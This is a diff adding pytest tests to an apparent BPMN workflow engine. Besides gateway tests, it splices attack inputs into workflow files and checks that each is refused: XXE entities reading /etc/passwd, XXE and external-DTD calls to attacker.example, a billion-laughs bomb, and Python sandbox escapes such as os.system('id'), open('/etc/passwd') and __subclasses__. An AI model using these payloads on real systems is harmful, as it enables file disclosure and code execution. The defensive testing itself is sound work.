@@ -282,6 +282,8 @@ def test_spiff_interrupting_timer_on_a_subprocess(aurelia, ada, alice, engine_cl
         ("spiffworkflow/ScriptTest.bpmn", "“SecondScript”: line 1: assign to a plain name"),
         # its called process lives in another file (Civitas reads one file per process)
         ("spiffworkflow/call_activity_end_event.bpmn", "Call_Activity_Get_Data"),
+        # dotted Camunda form field ids (pi.experience) write nested data: form fields are plain names
+        ("spiffworkflow/ExclusiveGatewayMultipleEndNavigation.bpmn", "“Step 2”: the form field name 'pi.experience'"),
     ],
 )
 def test_spiff_examples_refused_by_design(aurelia, ada, path, says):
@@ -295,3 +297,102 @@ def test_spiff_script_with_print_calls_is_refused_naming_the_element_and_line(au
     content = content.replace(b"bpmn:callActivity", b"bpmn:task")
     message = _refused(aurelia, ada, content)
     assert "“Print Data”: line 1: only assignments of the form name = expression" in message
+
+
+def test_spiff_four_abstract_tasks_in_parallel_with_a_text_annotation(aurelia, ada, alice):
+    instance = _start(_upload(aurelia, ada, "spiffworkflow/ParallelOrder.bpmn"), alice)
+    assert instance.status == InstanceStatus.COMPLETED
+    assert sorted(_reached(instance, "bpm.step")) == ["Task 1", "Task 2", "Task 3", "Task 4"]
+    assert _reached(instance, "bpm.end_event") == ["Event_0l2ep9d"]
+
+
+@pytest.mark.parametrize(("choice", "steps"), [("Yes", ["Yes Task", "Done"]), ("No", ["Done"])])
+def test_spiff_parallel_branch_ends_early_and_the_inclusive_join_goes_on(aurelia, ada, alice, choice, steps):
+    version = _upload(aurelia, ada, "spiffworkflow/Parallel-One-Path-Ends.bpmn20.xml")
+    instance = _start(version, alice, {"choice": choice})
+    assert instance.status == InstanceStatus.COMPLETED
+    reached = _reached(instance, "bpm.step")
+    assert {"Parallel Task", "Choice 1", *steps} <= set(reached)
+    assert ("Yes Task" in reached) is (choice == "Yes")
+    assert len(_reached(instance, "bpm.end_event")) == (1 if choice == "Yes" else 2)
+
+
+# --- malicious files ------------------------------------------------------------------------------
+# test_definitions.py covers a billion-laughs DTD, an internal SYSTEM entity, and scripts with
+# import / __import__ / open( / __class__; these add the variants a real attacker would send,
+# inside a real modeler's file.
+
+CAMUNDA_FILE = "spiffworkflow/ExclusiveGatewayNavigation.bpmn"
+
+
+def _with_doctype(doctype: str, *, replace: tuple[bytes, bytes] = (b"", b"")) -> bytes:
+    content = (FIXTURES / CAMUNDA_FILE).read_bytes()
+    content = content.replace(
+        b'<?xml version="1.0" encoding="UTF-8"?>\n',
+        b'<?xml version="1.0" encoding="UTF-8"?>\n' + doctype.encode() + b"\n",
+        1,
+    )
+    return content.replace(*replace) if replace[0] else content
+
+
+@pytest.mark.parametrize(
+    ("doctype", "replace"),
+    [
+        # XXE in a gateway condition: the file's content would become an expression
+        ('<!DOCTYPE d [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', (b"which_branch == 'a'", b"&xxe;")),
+        # XXE by URL, out of band
+        ('<!DOCTYPE d [<!ENTITY xxe SYSTEM "http://attacker.example/x">]>', (b'name="a"', b'name="&xxe;"')),
+        # an external DTD, no entity used
+        ('<!DOCTYPE d SYSTEM "http://attacker.example/evil.dtd">', (b"", b"")),
+        # parameter entities (the blind-XXE pattern)
+        ('<!DOCTYPE d [<!ENTITY % p SYSTEM "file:///etc/hostname"> %p;]>', (b"", b"")),
+        # billion laughs, nine levels deep, expanded in a task name
+        (
+            '<!DOCTYPE d [<!ENTITY l0 "lol">'
+            + "".join(f'<!ENTITY l{i} "{("&l" + str(i - 1) + ";") * 10}">' for i in range(1, 10))
+            + "]>",
+            (b'name="Enter Task 1"', b'name="&l9;"'),
+        ),
+    ],
+)
+def test_entity_attacks_in_a_modeler_file_are_refused_before_parsing(aurelia, ada, doctype, replace):
+    message = _refused(aurelia, ada, _with_doctype(doctype, replace=replace))
+    assert "DTD" in message or "entit" in message or "external" in message
+    assert "root:" not in message  # nothing of /etc/passwd came back
+
+
+@pytest.mark.parametrize(
+    ("script", "says"),
+    [
+        ("import os\nos.system('id')", "line 1: imports are not allowed"),
+        ("x = 1\nfrom subprocess import run", "line 2: imports are not allowed"),
+        ("x = __import__('os').system('id')", "only these functions may be called"),
+        ("x = open('/etc/passwd').read()", "only these functions may be called"),
+        ("x = eval('1')", "only these functions may be called"),
+        ("x = getattr(data, 'keys')", "only these functions may be called"),
+        ("x = ().__class__.__bases__[0].__subclasses__()", "only these functions may be called"),
+        ("x = data.__globals__", "'__globals__' is not allowed"),
+        ("x = __builtins__", "'__builtins__' is not allowed"),
+        ("x = [c for c in 'ab']", "ListComp is not allowed"),
+        ("x = lambda: 1", "Lambda is not allowed"),
+    ],
+)
+def test_unsafe_scripts_in_a_spiff_example_are_refused_naming_element_line_and_reason(aurelia, ada, script, says):
+    content = (FIXTURES / "spiffworkflow/boundary_timer_on_task.bpmn").read_bytes()
+    content = content.replace(
+        b"<bpmn:script>timer_called = False</bpmn:script>", f"<bpmn:script>{script}</bpmn:script>".encode()
+    )
+    message = _refused(aurelia, ada, content)
+    assert message.startswith("“Set timer_called”: ") and says in message
+
+
+def test_a_condition_with_an_import_is_refused(aurelia, ada):
+    content = (FIXTURES / CAMUNDA_FILE).read_bytes().replace(b"which_branch == 'a'", b"__import__('os').system('id')")
+    message = _refused(aurelia, ada, content)
+    assert message.startswith("“Decide Which Branch?”: only these functions may be called")
+
+
+def test_a_timer_expression_cannot_call_out(aurelia, ada):
+    content = (FIXTURES / "spiffworkflow/Timer-Intermediate.bpmn20.xml").read_bytes()
+    content = content.replace(b">due_time</timeDate>", b">open('/etc/passwd').read()</timeDate>")
+    assert "“Due Time”: only these functions may be called" in _refused(aurelia, ada, content)
